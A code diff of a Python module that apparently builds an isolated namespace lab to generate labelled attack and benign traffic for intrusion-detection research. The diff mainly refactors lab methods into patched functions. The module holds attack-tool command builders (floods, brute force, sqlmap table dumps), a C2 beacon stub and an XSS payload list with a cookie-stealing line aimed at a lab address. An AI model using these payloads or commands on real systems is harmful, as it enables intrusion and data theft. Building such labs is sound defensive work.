@@ -21,11 +21,12 @@ import threading
 import time
 from dataclasses import dataclass, field
 from pathlib import Path
-from typing import Any, Callable
+from typing import Callable
 
 import numpy as np
 import pandas as pd
 import yaml
+from fastcore.basics import patch
 from pydantic import BaseModel, ConfigDict, Field, ValidationError, field_validator
 
 from .nfstream import NFSTREAM, pcap_to_flows
@@ -89,7 +90,7 @@ DEBIAN_PACKAGES = {"ip": "iproute2", "ss": "iproute2", "tcpdump": "tcpdump", "ti
                    "goldeneye": "goldeneye", "slowhttptest": "slowhttptest", "hydra": "hydra", "medusa": "medusa",
                    "ncrack": "ncrack", "sqlmap": "sqlmap"}
 
-# %% ../nbs/14_lab.ipynb #6a7e386b
+# %% ../nbs/14_lab.ipynb #0c5e4d12
 class _Strict(BaseModel):
     model_config = ConfigDict(extra="forbid")
 
@@ -111,7 +112,7 @@ def _bounded(v, name: str, low: float, high: float | None = None, *, whole: bool
     if not ok: raise ValueError(f"{name} must {where}{unit}, got {v!r}")
     return [int(lo), int(hi)] if whole else [lo, hi]
 
-
+# %% ../nbs/14_lab.ipynb #a83925fc
 class BenignSpec(_Strict):
     "The benign clients: how many hosts, how often each starts an activity, and the mix of activities."
     clients: list[int] = Field(default_factory=lambda: [3, 3], description="[min, max] number of client hosts")
@@ -136,7 +137,7 @@ class BenignSpec(_Strict):
         if any(w < 0 for w in v.values()) or sum(v.values()) <= 0: raise ValueError("benign.mix weights must be >= 0 with a positive sum")
         return v
 
-
+# %% ../nbs/14_lab.ipynb #a7b9ab85
 class StepSpec(_Strict):
     "One step: an attack family (or `benign`, a service such as a monitoring poller), the tool that makes it, when it starts, how long it may run, how hard it pushes."
     family: str
@@ -176,7 +177,7 @@ class StepSpec(_Strict):
         bad = [v for v in (self.variants or []) if v not in tools[self.tool]]
         if bad: raise ValueError(f"unknown variant {', '.join(map(repr, bad))} of {self.tool}; valid: {', '.join(tools[self.tool])}")
 
-
+# %% ../nbs/14_lab.ipynb #7f0a8ddd
 class Scenario(_Strict):
     "A lab session: capture length, benign clients and attack steps (`params/lab/*.yaml`)."
     name: str = Field(pattern=r"^[A-Za-z0-9][A-Za-z0-9._-]*$")
@@ -191,7 +192,7 @@ class Scenario(_Strict):
         have = {"benign"} | {s.family for s in self.steps}
         return [f for f in LAB_FAMILIES if f in have]
 
-
+# %% ../nbs/14_lab.ipynb #a5ee25be
 def _scenario_error(where: str, e: ValidationError) -> ScenarioError:
     parts = []
     for err in e.errors():
@@ -227,7 +228,7 @@ def load_scenario(path) -> Scenario:
     if isinstance(raw, dict): raw.setdefault("name", path.stem)
     return parse_scenario(raw, str(path))
 
-# %% ../nbs/14_lab.ipynb #a0ef7b32
+# %% ../nbs/14_lab.ipynb #c480a2ce
 LAB_NET = ipaddress.ip_network("198.18.0.0/15")
 SERVERS = {"web": "198.18.0.10", "infra": "198.18.0.11"}
 SECRET_USER, SECRET_PASSWORD = "alice", "correct-horse-battery"   # the benign users' credentials (never in a wordlist)
@@ -275,7 +276,7 @@ class StepPlan:
         d["commands"] = [shlex.join(c.argv) for c in self.commands]
         return d
 
-
+# %% ../nbs/14_lab.ipynb #a6fd84ba
 @dataclass
 class SessionPlan:
     "Everything a session will do, drawn from (scenario, seed)."
@@ -299,7 +300,7 @@ class SessionPlan:
     def addresses(self, role: str) -> list[str]:
         return [h.ip for h in self.hosts.values() if h.role == role]
 
-# %% ../nbs/14_lab.ipynb #cfef6551
+# %% ../nbs/14_lab.ipynb #b3da1f72
 @dataclass
 class _Ctx:
     rng: random.Random
@@ -328,7 +329,7 @@ def _wordlist(ctx: _Ctx, n: int) -> tuple[str, str, str, str]:
     u, p = ctx.work / f"{ctx.name}.users", ctx.work / f"{ctx.name}.pass"
     return str(u), str(p), "\n".join(users) + "\n", "\n".join(pw) + "\n"
 
-
+# %% ../nbs/14_lab.ipynb #e1cd3ea9
 def _nmap(ctx: _Ctx):
     r, tgt = ctx.rng, ctx.rng.choice(list(SERVERS.values()))
     lo = r.randint(1, 3000); hi = min(65535, lo + ctx.n(1000, 50) - 1)
@@ -345,7 +346,7 @@ def _masscan(ctx: _Ctx):
             "--adapter", "eth0", "--adapter-ip", me.ip, "--adapter-mac", me.mac, "--router-mac", th.mac]
     return tgt, [Command(me.name, argv)], {}
 
-
+# %% ../nbs/14_lab.ipynb #e55eb9bd
 _HPING_FLAG = {"syn": ["-S"], "ack": ["-A"], "fin": ["-F"], "udp": ["--udp"]}
 
 
@@ -393,7 +394,7 @@ def _httpflood(ctx: _Ctx):
         cmds.append(Command(h.name, argv, delay=round(r.uniform(0, 0.5), 2) if len(ctx.me) > 1 else 0.0))
     return tgt, cmds, files
 
-
+# %% ../nbs/14_lab.ipynb #b4a5bee0
 def _slowhttptest(ctx: _Ctx):
     r = ctx.rng
     tgt = r.choice(list(SERVERS.values()))
@@ -405,7 +406,7 @@ def _slowhttptest(ctx: _Ctx):
     if ctx.variant == "X": argv += ["-k", str(r.choice([2, 3])), "-n", str(r.choice([2, 3, 5])), "-w", "10", "-y", "20", "-z", "32", "-p", "3"]
     return tgt, [Command(ctx.me[0].name, argv)], {}
 
-
+# %% ../nbs/14_lab.ipynb #56ce548c
 def _bruteforce_target(ctx: _Ctx) -> str:
     return SERVERS["web"] if ctx.variant in ("ftp", "http") else ctx.rng.choice(list(SERVERS.values()))
 
@@ -436,7 +437,7 @@ def _ncrack(ctx: _Ctx):
     argv = ["ncrack", "-U", uf, "-P", pf, "-T", str(r.choice([3, 4, 5])), f"{ctx.variant}://{tgt}"]
     return tgt, [Command(ctx.me[0].name, argv)], {uf: ut, pf: pt}
 
-
+# %% ../nbs/14_lab.ipynb #5ee4bf9c
 def _sqlmap(ctx: _Ctx):
     r, tgt = ctx.rng, SERVERS["web"]
     url = {"search": f"http://{tgt}/app/search?q=book", "item": f"http://{tgt}/app/item?id=3"}[ctx.variant]
@@ -446,7 +447,7 @@ def _sqlmap(ctx: _Ctx):
     argv += r.choice([[], ["--random-agent"], ["--dbs"], ["--tables"], ["--dump", "-T", "users"]])
     return tgt, [Command(ctx.me[0].name, argv)], {}
 
-
+# %% ../nbs/14_lab.ipynb #1ff6adf9
 _XSS = ["<script>alert({k})</script>", "\"><img src=x onerror=alert({k})>", "<svg/onload=alert('{k}')>",
         "javascript:alert({k})", "<iframe src=javascript:alert({k})>", "'><script>document.location='http://198.19.0.1/?c='+document.cookie</script>",
         "<body onload=alert({k})>", "<a href=\"javascript:alert({k})\">x</a>", "%3Cscript%3Ealert({k})%3C/script%3E"]
@@ -483,7 +484,7 @@ def _traversal_probe(ctx: _Ctx):
     path, text = _probe_script(ctx, "traversal")
     return SERVERS["web"], [Command(ctx.me[0].name, ["bash", path])], {path: text}
 
-
+# %% ../nbs/14_lab.ipynb #9d01238d
 def _beacon(ctx: _Ctx):
     r, c2 = ctx.rng, ctx.c2
     cmds = [Command(c2.name, ["python3", str(ctx.work / "c2.py"), c2.ip, str(r.randint(0, 2**31))], daemon=True)]
@@ -516,7 +517,7 @@ BUILDERS: dict[str, Callable] = {"nmap": _nmap, "masscan": _masscan, "hping3": _
                                  "sqlmap": _sqlmap, "xss-probe": _xss_probe, "traversal-probe": _traversal_probe, "beacon": _beacon,
                                  "poller": _poller}
 
-# %% ../nbs/14_lab.ipynb #1e3f6992
+# %% ../nbs/14_lab.ipynb #3a704e83
 _SSH_OPTS = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=5 -o LogLevel=ERROR"
 _NAMES = ["www.lab.test", "files.lab.test", "updates.lab.test", "ssh.lab.test", "mail.lab.test", "intranet.lab.test"]
 
@@ -566,7 +567,7 @@ def _activity(r: random.Random, kind: str, work: Path, files: dict[str, int]) ->
         return f"timeout -k 1 60 curl -s http://{web}/app/slow?s={r.randint(5, 30)} >/dev/null"
     raise ValueError(f"unknown benign activity '{kind}'; valid: {', '.join(BENIGN_ACTIVITIES)}")
 
-
+# %% ../nbs/14_lab.ipynb #f71bd003
 def _client_script(r: random.Random, spec: BenignSpec, duration: float, work: Path, files: dict[str, int]) -> list[str]:
     "The bash lines of one client: activities at exponential gaps plus a periodic update check."
     kinds, weights = zip(*[(k, w) for k, w in spec.mix.items() if w > 0])
@@ -629,7 +630,7 @@ def plan_session(scenario: Scenario, seed: int, work: str | Path) -> SessionPlan
     return SessionPlan(scenario=scenario, seed=seed, work=work, hosts=hosts, clients=clients, steps=steps, files=files,
                        scripts=extra_files)
 
-# %% ../nbs/14_lab.ipynb #e7ebd52d
+# %% ../nbs/14_lab.ipynb #6dc43d86
 WEB_APP = r'''
 import json, os, sqlite3, sys, threading, time, urllib.parse
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -690,6 +691,7 @@ ThreadingHTTPServer.request_queue_size = 256
 ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), App).serve_forever()
 '''
 
+# %% ../nbs/14_lab.ipynb #95fa6dc3
 C2_SERVER = r'''
 import json, random, sys
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -742,7 +744,7 @@ while time.time() < end:
     time.sleep(max(0.05, interval * (1 + rng.uniform(-jitter, jitter))))
 '''
 
-
+# %% ../nbs/14_lab.ipynb #3eaac2f3
 def _nginx_conf(work: Path, ip: str, root: Path, tag: str) -> str:
     t = work / f"nginx-{tag}"
     return f"""daemon off;
@@ -770,7 +772,7 @@ http {{
 }}
 """
 
-
+# %% ../nbs/14_lab.ipynb #960bac7f
 def _sshd_conf(work: Path, ip: str, tag: str) -> str:
     return f"""Port 22
 ListenAddress {ip}
@@ -814,7 +816,7 @@ delay_failed_login=1
 vsftpd_log_file={work}/vsftpd.log
 """
 
-
+# %% ../nbs/14_lab.ipynb #4977d3fc
 def _dnsmasq_argv(work: Path, ip: str) -> list[str]:
     zone = {"www": "web", "files": "web", "ssh": "web", "updates": "infra", "mail": "infra", "intranet": "web"}
     argv = ["dnsmasq", "-k", "--conf-file=/dev/null", "--no-resolv", "--no-hosts", "--no-poll", "--user=root", "--group=root",
@@ -827,7 +829,7 @@ def _dnsmasq_argv(work: Path, ip: str) -> list[str]:
 def _services(plan: SessionPlan) -> list[Command]:
     "The server daemons of a session, each a command in its server's namespace."
     w = plan.work
-    web, infra = SERVERS["web"], SERVERS["infra"]
+    infra = SERVERS["infra"]
     return [
         Command("web", ["python3", str(w / "webapp.py"), "8081", str(w / "app.db"), str(w / "docs")]),
         Command("web", ["nginx", "-c", str(w / "nginx-web.conf")]),
@@ -843,7 +845,7 @@ def _which(name: str) -> str | None:
     "The program `name` on PATH, also looking in the sbin folders (sshd, hping3 live there)."
     return shutil.which(name, path=os.environ.get("PATH", "") + ":/usr/local/sbin:/usr/sbin:/sbin")
 
-
+# %% ../nbs/14_lab.ipynb #541d064b
 def write_work(plan: SessionPlan) -> None:
     "Write configs, scripts, web content, keys and wordlists of `plan` into its work folder."
     w, r = plan.work, random.Random(plan.seed + 1)
@@ -884,7 +886,7 @@ def write_work(plan: SessionPlan) -> None:
     os.chmod(w, 0o755)
     for d in ("ftp", "ftp/pub", "ftp-empty"): os.chmod(w / d, 0o755)
 
-# %% ../nbs/14_lab.ipynb #9d32f1fa
+# %% ../nbs/14_lab.ipynb #03a15364
 log = logging.getLogger("cyber_moe.lab")
 NS_PREFIX = "cml"
 
@@ -922,7 +924,7 @@ def check_available(binaries: list[str] = ()) -> None:
         raise LabUnavailable(f"program(s) not on PATH: {', '.join(missing)}; install them with "
                              f"`apt-get install {' '.join(pk)}` (or `make sysdeps-lab`)")
 
-
+# %% ../nbs/14_lab.ipynb #c0b3a103
 @dataclass
 class _Proc:
     tag: str
@@ -959,86 +961,96 @@ class Lab(contextlib.AbstractContextManager):
         self.cleanup()
         return False
 
-    def _add_ns(self, name: str) -> None:
-        _ip("netns", "add", name)
-        self.namespaces.append(name)
-        for key in ("all", "default"):
-            subprocess.run(["ip", "netns", "exec", name, "sysctl", "-qw", f"net.ipv6.conf.{key}.disable_ipv6=1"], capture_output=True)
-        _ip("-n", name, "link", "set", "lo", "up")
-
-    def _build(self) -> None:
-        plan, sw = self.plan, self.ns("sw")
-        plan.work.mkdir(parents=True, exist_ok=True)
-        write_work(plan)
-        Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)     # sshd's privilege-separation folder (standard, left in place)
-        self._add_ns(sw)
-        _ip("-n", sw, "link", "add", "br0", "type", "bridge")
-        _ip("-n", sw, "link", "set", "br0", "up")
-        for i, h in enumerate(plan.hosts.values()):
-            ns, port = self.ns(h.name), f"p{i}"
-            self._add_ns(ns)
-            _ip("link", "add", "name", "eth0", "netns", ns, "address", h.mac, "type", "veth", "peer", "name", port, "netns", sw)
-            _ip("-n", sw, "link", "set", port, "master", "br0", "up")
-            _ip("-n", ns, "addr", "add", f"{h.ip}/{LAB_NET.prefixlen}", "dev", "eth0")
-            _ip("-n", ns, "link", "set", "eth0", "up")
-        log.info("lab %s: %d namespaces (%d hosts) on bridge %s/br0", self.run_id, len(self.namespaces), len(plan.hosts), sw)
-
-    def spawn(self, host: str, argv: list[str], tag: str, *, bound_s: float | None = None) -> _Proc:
-        "Start `argv` in `host`'s namespace, in a session of its own, under `timeout` when `bound_s` is given."
-        logf = self.plan.work / "logs" / f"{tag}.log"
-        logf.parent.mkdir(exist_ok=True)
-        cmd = ["ip", "netns", "exec", self.ns(host)]
-        if bound_s is not None: cmd += ["timeout", "-k", "2", f"{bound_s:.1f}"]
-        env = {**os.environ, "HOME": str(self.plan.work / "home"), "LC_ALL": "C",
-               "PATH": os.environ.get("PATH", "") + ":/usr/local/sbin:/usr/sbin:/sbin"}
-        with open(logf, "ab") as out:
-            p = subprocess.Popen(cmd + argv, stdout=out, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
-                                 cwd=self.plan.work / "home", env=env, start_new_session=True)
-        proc = _Proc(tag, p, time.time(), log=logf)
-        self.procs.append(proc)
-        def waiter():
-            p.wait(); proc.ended = time.time()
-        threading.Thread(target=waiter, daemon=True).start()
-        return proc
-
-    def stop(self, proc: _Proc, sig: int = signal.SIGTERM, wait: float = 3.0) -> None:
-        "Signal `proc`'s process group, then SIGKILL it if it has not ended within `wait` seconds."
-        for s in (sig, signal.SIGKILL):
-            if proc.popen.poll() is not None: break
-            with contextlib.suppress(ProcessLookupError, PermissionError): os.killpg(proc.popen.pid, s)
-            with contextlib.suppress(subprocess.TimeoutExpired): proc.popen.wait(wait)
-        with contextlib.suppress(ProcessLookupError, PermissionError): os.killpg(proc.popen.pid, signal.SIGKILL)
-
-    def cleanup(self) -> None:
-        "Stop every process, kill what is left in the namespaces, delete the namespaces and the work folder (idempotent)."
-        if self.cleaned: return
-        old = {}
-        if threading.current_thread() is threading.main_thread():
-            for s in (signal.SIGINT, signal.SIGTERM): old[s] = signal.signal(s, signal.SIG_IGN)   # finish cleaning first
-        try:
-            for p in self.procs:
-                with contextlib.suppress(ProcessLookupError, PermissionError):
-                    if p.popen.poll() is None: os.killpg(p.popen.pid, signal.SIGTERM)
-            deadline = time.time() + 2
-            for p in self.procs:
-                with contextlib.suppress(subprocess.TimeoutExpired): p.popen.wait(max(0.01, deadline - time.time()))
-            for p in self.procs:
-                with contextlib.suppress(ProcessLookupError, PermissionError): os.killpg(p.popen.pid, signal.SIGKILL)
-                with contextlib.suppress(subprocess.TimeoutExpired): p.popen.wait(2)
-            for ns in set(self.namespaces) | set(lab_namespaces(self.run_id)):
-                pids = subprocess.run(["ip", "netns", "pids", ns], capture_output=True, text=True).stdout.split()
-                for pid in pids:
-                    with contextlib.suppress(ProcessLookupError, ValueError): os.kill(int(pid), signal.SIGKILL)
-            time.sleep(0.05)
-            for ns in set(self.namespaces) | set(lab_namespaces(self.run_id)):
-                _ip("netns", "del", ns, check=False)
-            if not self.keep_work: shutil.rmtree(self.plan.work, ignore_errors=True)
-            self.cleaned = True
-            log.info("lab %s: cleaned up (%d processes, %d namespaces)", self.run_id, len(self.procs), len(self.namespaces))
-        finally:
-            for s, h in old.items(): signal.signal(s, h)
+# %% ../nbs/14_lab.ipynb #6c70b26b
+@patch
+def _add_ns(self: Lab, name: str) -> None:
+    _ip("netns", "add", name)
+    self.namespaces.append(name)
+    for key in ("all", "default"):
+        subprocess.run(["ip", "netns", "exec", name, "sysctl", "-qw", f"net.ipv6.conf.{key}.disable_ipv6=1"], capture_output=True)
+    _ip("-n", name, "link", "set", "lo", "up")
 
 
+@patch
+def _build(self: Lab) -> None:
+    plan, sw = self.plan, self.ns("sw")
+    plan.work.mkdir(parents=True, exist_ok=True)
+    write_work(plan)
+    Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)     # sshd's privilege-separation folder (standard, left in place)
+    self._add_ns(sw)
+    _ip("-n", sw, "link", "add", "br0", "type", "bridge")
+    _ip("-n", sw, "link", "set", "br0", "up")
+    for i, h in enumerate(plan.hosts.values()):
+        ns, port = self.ns(h.name), f"p{i}"
+        self._add_ns(ns)
+        _ip("link", "add", "name", "eth0", "netns", ns, "address", h.mac, "type", "veth", "peer", "name", port, "netns", sw)
+        _ip("-n", sw, "link", "set", port, "master", "br0", "up")
+        _ip("-n", ns, "addr", "add", f"{h.ip}/{LAB_NET.prefixlen}", "dev", "eth0")
+        _ip("-n", ns, "link", "set", "eth0", "up")
+    log.info("lab %s: %d namespaces (%d hosts) on bridge %s/br0", self.run_id, len(self.namespaces), len(plan.hosts), sw)
+
+# %% ../nbs/14_lab.ipynb #32e167ea
+@patch
+def spawn(self: Lab, host: str, argv: list[str], tag: str, *, bound_s: float | None = None) -> _Proc:
+    "Start `argv` in `host`'s namespace, in a session of its own, under `timeout` when `bound_s` is given."
+    logf = self.plan.work / "logs" / f"{tag}.log"
+    logf.parent.mkdir(exist_ok=True)
+    cmd = ["ip", "netns", "exec", self.ns(host)]
+    if bound_s is not None: cmd += ["timeout", "-k", "2", f"{bound_s:.1f}"]
+    env = {**os.environ, "HOME": str(self.plan.work / "home"), "LC_ALL": "C",
+           "PATH": os.environ.get("PATH", "") + ":/usr/local/sbin:/usr/sbin:/sbin"}
+    with open(logf, "ab") as out:
+        p = subprocess.Popen(cmd + argv, stdout=out, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
+                             cwd=self.plan.work / "home", env=env, start_new_session=True)
+    proc = _Proc(tag, p, time.time(), log=logf)
+    self.procs.append(proc)
+    def waiter():
+        p.wait(); proc.ended = time.time()
+    threading.Thread(target=waiter, daemon=True).start()
+    return proc
+
+
+@patch
+def stop(self: Lab, proc: _Proc, sig: int = signal.SIGTERM, wait: float = 3.0) -> None:
+    "Signal `proc`'s process group, then SIGKILL it if it has not ended within `wait` seconds."
+    for s in (sig, signal.SIGKILL):
+        if proc.popen.poll() is not None: break
+        with contextlib.suppress(ProcessLookupError, PermissionError): os.killpg(proc.popen.pid, s)
+        with contextlib.suppress(subprocess.TimeoutExpired): proc.popen.wait(wait)
+    with contextlib.suppress(ProcessLookupError, PermissionError): os.killpg(proc.popen.pid, signal.SIGKILL)
+
+# %% ../nbs/14_lab.ipynb #c151dfb3
+@patch
+def cleanup(self: Lab) -> None:
+    "Stop every process, kill what is left in the namespaces, delete the namespaces and the work folder (idempotent)."
+    if self.cleaned: return
+    old = {}
+    if threading.current_thread() is threading.main_thread():
+        for s in (signal.SIGINT, signal.SIGTERM): old[s] = signal.signal(s, signal.SIG_IGN)   # finish cleaning first
+    try:
+        for p in self.procs:
+            with contextlib.suppress(ProcessLookupError, PermissionError):
+                if p.popen.poll() is None: os.killpg(p.popen.pid, signal.SIGTERM)
+        deadline = time.time() + 2
+        for p in self.procs:
+            with contextlib.suppress(subprocess.TimeoutExpired): p.popen.wait(max(0.01, deadline - time.time()))
+        for p in self.procs:
+            with contextlib.suppress(ProcessLookupError, PermissionError): os.killpg(p.popen.pid, signal.SIGKILL)
+            with contextlib.suppress(subprocess.TimeoutExpired): p.popen.wait(2)
+        for ns in set(self.namespaces) | set(lab_namespaces(self.run_id)):
+            pids = subprocess.run(["ip", "netns", "pids", ns], capture_output=True, text=True).stdout.split()
+            for pid in pids:
+                with contextlib.suppress(ProcessLookupError, ValueError): os.kill(int(pid), signal.SIGKILL)
+        time.sleep(0.05)
+        for ns in set(self.namespaces) | set(lab_namespaces(self.run_id)):
+            _ip("netns", "del", ns, check=False)
+        if not self.keep_work: shutil.rmtree(self.plan.work, ignore_errors=True)
+        self.cleaned = True
+        log.info("lab %s: cleaned up (%d processes, %d namespaces)", self.run_id, len(self.procs), len(self.namespaces))
+    finally:
+        for s, h in old.items(): signal.signal(s, h)
+
+# %% ../nbs/14_lab.ipynb #b92a532c
 @contextlib.contextmanager
 def signals_raise():
     "While inside, SIGTERM and SIGINT raise `LabInterrupted` in the main thread (so `with Lab(...)` cleans up)."
@@ -1050,7 +1062,7 @@ def signals_raise():
     finally:
         for s, h in old.items(): signal.signal(s, h)
 
-# %% ../nbs/14_lab.ipynb #d411b854
+# %% ../nbs/14_lab.ipynb #51fc0d78
 OK_CODES = (0, 124)
 TOOL_OK_CODES = {"hping3": (0, 1, 124),     # hping3 exits 1 when no probe got an answer (a flood to a closed UDP port, FIN floods)
                  "httpflood": (0, 28, 124)}  # curl exits 28 when a request of the flood timed out: the server is swamped
@@ -1080,11 +1092,10 @@ def _step_status(codes: list[int | None], crashed: bool, stopped: bool, tool: st
     if stopped: return "stopped"
     return "ok" if all(c in TOOL_OK_CODES.get(tool, OK_CODES) for c in codes) else "failed"
 
-
-def run_session(lab: Lab, pcap: Path, *, inject_crash: str | None = None, on_event: Callable | None = None) -> dict:
-    "Capture a whole session on the bridge of a built `lab` into `pcap`; the record of what ran when."
+# %% ../nbs/14_lab.ipynb #24b5543e
+def _start_capture(lab: Lab, pcap: Path) -> _Proc:
+    "Start the servers' daemons, wait until each listens, then start tcpdump on the bridge writing `pcap`."
     plan, sc = lab.plan, lab.plan.scenario
-    t_setup = time.time()
     for i, c in enumerate(_services(plan)): lab.spawn(c.host, c.argv, f"svc{i}-{Path(c.argv[0]).name}")
     for host, port, proto in (("web", 80, "tcp"), ("web", 22, "tcp"), ("web", 21, "tcp"), ("web", 8081, "tcp"),
                               ("infra", 53, "udp"), ("infra", 80, "tcp"), ("infra", 22, "tcp")):
@@ -1096,6 +1107,41 @@ def run_session(lab: Lab, pcap: Path, *, inject_crash: str | None = None, on_eve
     while time.time() < end and "listening on" not in dump.log.read_text(errors="replace"):
         if dump.popen.poll() is not None: raise RuntimeError(f"tcpdump exited {dump.popen.returncode}: {_tail(dump.log)}")
         time.sleep(0.05)
+    return dump
+
+# %% ../nbs/14_lab.ipynb #c8a21f1a
+def _tcpdump_stats(tcpdump_log: str) -> dict:
+    "tcpdump's closing counts (captured, received_by_filter, dropped_by_kernel) from its log."
+    stats = {}
+    for line in tcpdump_log.splitlines():
+        for key in ("captured", "received by filter", "dropped by kernel"):
+            words = line.split()
+            if line.strip().endswith(key) and words and words[0].isdigit(): stats[key.replace(" ", "_")] = int(words[0])
+    return stats
+
+
+def _step_results(plan: SessionPlan, done: list[dict]) -> list[dict]:
+    "One record per step that ran, in start order: its plan, addresses, times, status, exit codes and error."
+    steps = []
+    for rec in sorted(done, key=lambda r: r["t_start"]):
+        st = rec["step"]
+        main = [(c, p) for c, p in rec["procs"] if not c.daemon]
+        codes = [p.popen.returncode for _, p in main]
+        status = _step_status(codes, rec["crashed"], rec["stopped"], st.tool)
+        why = None
+        if rec["crashed"]: why = "killed with SIGKILL part-way (inject_crash)"
+        elif status == "failed":
+            why = "; ".join(f"{Path(c.argv[0]).name} exited {p.popen.returncode}: {_tail(p.log)}" for c, p in main if p.popen.returncode not in TOOL_OK_CODES.get(st.tool, OK_CODES))
+        steps.append({**st.to_dict(), "addresses": [plan.hosts[h].ip for h in st.hosts], "t_start": rec["t_start"],
+                      "t_end": rec["t_end"], "status": status, "exit_codes": codes, "error": why})
+    return steps
+
+# %% ../nbs/14_lab.ipynb #be054e42
+def run_session(lab: Lab, pcap: Path, *, inject_crash: str | None = None, on_event: Callable | None = None) -> dict:
+    "Capture a whole session on the bridge of a built `lab` into `pcap`; the record of what ran when."
+    plan, sc = lab.plan, lab.plan.scenario
+    t_setup = time.time()
+    dump = _start_capture(lab, pcap)
     time.sleep(0.2)
     t0 = time.time()
     setup_s = t0 - t_setup
@@ -1140,24 +1186,8 @@ def run_session(lab: Lab, pcap: Path, *, inject_crash: str | None = None, on_eve
     dump.popen.send_signal(signal.SIGINT)
     with contextlib.suppress(subprocess.TimeoutExpired): dump.popen.wait(10)
     t1 = time.time()
-    tcpdump_log = dump.log.read_text(errors="replace")
-    stats = {}
-    for line in tcpdump_log.splitlines():
-        for key in ("captured", "received by filter", "dropped by kernel"):
-            words = line.split()
-            if line.strip().endswith(key) and words and words[0].isdigit(): stats[key.replace(" ", "_")] = int(words[0])
-    steps = []
-    for rec in sorted(done, key=lambda r: r["t_start"]):
-        st = rec["step"]
-        main = [(c, p) for c, p in rec["procs"] if not c.daemon]
-        codes = [p.popen.returncode for _, p in main]
-        status = _step_status(codes, rec["crashed"], rec["stopped"], st.tool)
-        why = None
-        if rec["crashed"]: why = "killed with SIGKILL part-way (inject_crash)"
-        elif status == "failed":
-            why = "; ".join(f"{Path(c.argv[0]).name} exited {p.popen.returncode}: {_tail(p.log)}" for c, p in main if p.popen.returncode not in TOOL_OK_CODES.get(st.tool, OK_CODES))
-        steps.append({**st.to_dict(), "addresses": [plan.hosts[h].ip for h in st.hosts], "t_start": rec["t_start"],
-                      "t_end": rec["t_end"], "status": status, "exit_codes": codes, "error": why})
+    stats = _tcpdump_stats(dump.log.read_text(errors="replace"))
+    steps = _step_results(plan, done)
     return {"t_start": t0, "t_end": t_clients_end, "t_capture_end": t1, "setup_s": round(setup_s, 2), "steps": steps,
             "tcpdump": stats, "clients": {n: plan.hosts[n].ip for n in plan.clients},
             "servers": dict(SERVERS)}
@@ -1215,7 +1245,7 @@ def meter_capture(pcap, *, splt: int = LAB_SEQUENCE, **kw) -> pd.DataFrame:
     "The one place the lab meters a capture with NFStream (the same options as every other capture; `kw` to `pcap_to_flows`), with each flow's first `splt` packets."
     return pcap_to_flows(pcap, allow_truncated=True, splt=splt, **kw)
 
-# %% ../nbs/14_lab.ipynb #0855f421
+# %% ../nbs/14_lab.ipynb #62f0913f
 def _ground_truth(record: dict, session: str) -> pd.DataFrame:
     "The ground-truth record as a table: one row per step address and per benign host."
     rows = []
@@ -1237,7 +1267,7 @@ def session_name(scenario: Scenario, seed: int) -> str:
     "The name of a session in the `session` column: scenario and seed."
     return f"{scenario.name}-seed{seed}"
 
-
+# %% ../nbs/14_lab.ipynb #7616c5ee
 def record_session(scenario: Scenario | str | Path, out_dir, *, seed: int = 0, inject_crash: str | None = None,
                    keep_work: bool = False) -> dict:
     "Record one lab session into `out_dir` (capture.pcap, labels.parquet, flows.parquet, unattributed.parquet, session.json)."
@@ -1293,7 +1323,7 @@ def record_session(scenario: Scenario | str | Path, out_dir, *, seed: int = 0, i
     (out / "session.json").write_text(json.dumps(info, indent=1, default=str))
     return info
 
-
+# %% ../nbs/14_lab.ipynb #f4762054
 def read_session(out_dir) -> tuple[pd.DataFrame, dict]:
     "The labelled flows and the session record of a recorded session folder."
     out = Path(out_dir)
